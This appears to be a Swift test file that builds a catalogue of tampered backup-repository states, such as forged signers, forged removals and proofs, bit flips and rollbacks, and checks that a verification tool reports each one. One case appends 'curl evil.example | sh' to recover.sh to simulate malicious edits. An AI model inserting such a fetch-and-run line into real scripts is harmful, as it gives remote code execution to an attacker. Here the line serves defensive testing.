import Crypto
import Effects
import Glibc
import Repository
import Secrets
import TestSupport

extension ZooKind {
    /// Damage to recovery files and removals, and to the repository as a whole.
    static let around: [ZooKind] = [
        ZooKind("recover.sh edited") { cage in
            try cage.edit("recover.sh") { $0 += Array("\ncurl evil.example | sh\n".utf8) }
            return .damage("malformed", "recover.sh")
        },
        ZooKind("recover.sh missing") { cage in
            try cage.remove("recover.sh")
            return .damage("missing-file", "recover.sh")
        },
        ZooKind("RECOVER.md missing") { cage in
            try cage.remove("RECOVER.md")
            return .damage("missing-file", "RECOVER.md")
        },
        ZooKind("RECOVER.md with a bit flipped") { cage in
            try cage.flip("RECOVER.md", at: cage.number(below: try cage.read("RECOVER.md").count))
            return .damage("malformed", "RECOVER.md")
        },
        ZooKind("recover.sh replaced by a pipe") { cage in
            try cage.remove("recover.sh")
            mkfifo(cage.path("recover.sh"), 0o600)
            return .damage("malformed", "recover.sh")
        },
        ZooKind("an attacker in the list of signers") { cage in
            let evil = try Signer(seed: try Random.secret(count: 32)).allowedSignersLine(comment: "since-2026")
            try cage.edit("keys/allowed_signers") { $0 += Array((evil + "\n").utf8) }
            return .damage("malformed", "keys/allowed_signers")
        },
        ZooKind("an attacker who introduces himself") { cage in
            let evil = try Signer(seed: try Random.secret(count: 32)), line = evil.allowedSignersLine(comment: "x")
            try cage.edit("keys/allowed_signers") { $0 += Array((line + "\n").utf8) }
            try cage.write(try evil.sign(Array(line.utf8), for: .signer), to: "keys/introduction-2.sig")
            return .damage("malformed", "keys/allowed_signers")
        },
        ZooKind("removal forged, for a manifest that was taken away") { cage in
            try cage.forgeRemoval {
                try cage.sign($0, at: $1, as: .removal, by: Signer(seed: try Random.secret(count: 32)))
            }
            return .damage(
                [ZooFinding(code: "repository.bad-signature", subject: "removals/x.json")] + cage.chain(without: [1]))
        },
        ZooKind("removal without a signature") { cage in
            try cage.forgeRemoval { try cage.write($0, to: $1) }
            return .damage(
                [ZooFinding(code: "repository.missing-file", subject: "removals/x.json")] + cage.chain(without: [1]))
        },
        ZooKind("removal replaced by a pipe") { cage in
            mkfifo(cage.path("removals/x.json"), 0o600)
            return .damage("malformed", "removals/x.json")
        },
        ZooKind("repository rolled back to an older copy") { cage in
            try shell("rm -r \"$0\"; cp -a \"$1\" \"$0\"", cage.root, cage.pristine.older)
            return .damage("went-back", "backups")
        },
    ]

    /// What harms no backup, and must not be called damage.
    static let notes: [ZooKind] = [
        ZooKind("chunk that no manifest names", then: .none) { cage in
            let name = "chunks/00/\(String(repeating: "0", count: 64)).zst.age"
            try cage.write([1, 2, 3], to: name)
            return .notes("unnamed-chunk", name)
        },
        ZooKind("temporary files of killed runs") { cage in
            let names = ["tmp/", "backups/", "escrow/", "keys/", "removals/", "chunks/7f/"].map {
                $0 + ".tmp-0123456789abcdef"
            }
            for name in names { try cage.write([1], to: name) }
            return .notes(names.map { ZooFinding(code: "repository.temporary-file", subject: $0) })
        },
        ZooKind("files that others may read", then: .none) { cage in
            let names = [cage.name(of: try cage.chunk()), cage.manifest(cage.anyBackup), "keys", "repository.json"]
            for name in names { try shell("chmod go+rx \"$0\"", cage.path(name)) }
            return .notes(names.map { ZooFinding(code: "repository.wrong-mode", subject: $0) })
        },
        ZooKind("strangers", then: .none) { cage in
            let names = [
                "backups/README", "chunks/README", "chunks/00/x", "escrow/x", "keys/x", "proofs/x", "removals/x",
            ]
            for name in names { try cage.write([1], to: name) }
            return .notes(names.map { ZooFinding(code: "repository.unknown-file", subject: $0) })
        },
        ZooKind("what belongs to a disk and not to a repository", then: .none) { cage in
            try shell("mkdir -m 700 \"$0/lost+found\"; (umask 077; echo >\"$0/quarantine/x\")", cage.root)
            return .notes([])
        },
        ZooKind("signature of a manifest that was never published", then: .none) { cage in
            let name = "backups/\(BackupID(started: Timestamp(seconds: 1), random: 1).text).json.sig"
            try cage.write(try cage.read(cage.manifest(0) + ".sig"), to: name)
            return .notes("unfinished-manifest", name)
        },
        ZooKind("escrow file that no manifest names", then: .none) { cage in
            let name = "escrow/\(BackupID(started: Timestamp(seconds: 1), random: 1).text).age"
            try cage.write(try cage.read(cage.escrow(0)), to: name)
            return .notes("unnamed-escrow", name)
        },
        ZooKind("forged proof", then: .none) { cage in
            let backup = cage.manifests[1].id
            let name = "proofs/\(backup.text)/x.json"
            try shell("mkdir -p -m 700 \"$0\"", cage.layout.proofs(backup))
            let proof = Proof(
                backup: backup, manifest: String(repeating: "0", count: 64), level: .boots, outcome: .proven,
                time: "2099-01-01T00:00:00Z", program: "", host: "")
            try cage.sign(
                try StoredJSON.encode(proof), at: name, as: .proof, by: Signer(seed: try Random.secret(count: 32)))
            return .notes("unread-proof", name)
        },
        ZooKind("a copy without its empty folders", then: .none) { cage in
            try shell("find \"$0\" -mindepth 1 -type d -empty -delete", cage.root)
            return .notes([])
        },
    ]
}

extension ZooCage {
    /// Takes the middle manifest away and writes a document that says so.
    fileprivate func forgeRemoval(_ write: ([UInt8], String) throws -> Void) throws {
        let hash = SHA256.hash(try read(manifest(1))).hex
        let document = Removals.Document(
            repository: manifests[1].repository, time: "2026-01-01T00:00:00Z", reason: "pruned",
            removed: [.init(sequence: 2, id: manifests[1].id, sha256: hash)])
        for suffix in ["", ".sig"] { try remove(manifest(1) + suffix) }
        try write(try StoredJSON.encode(document), "removals/x.json")
    }
}
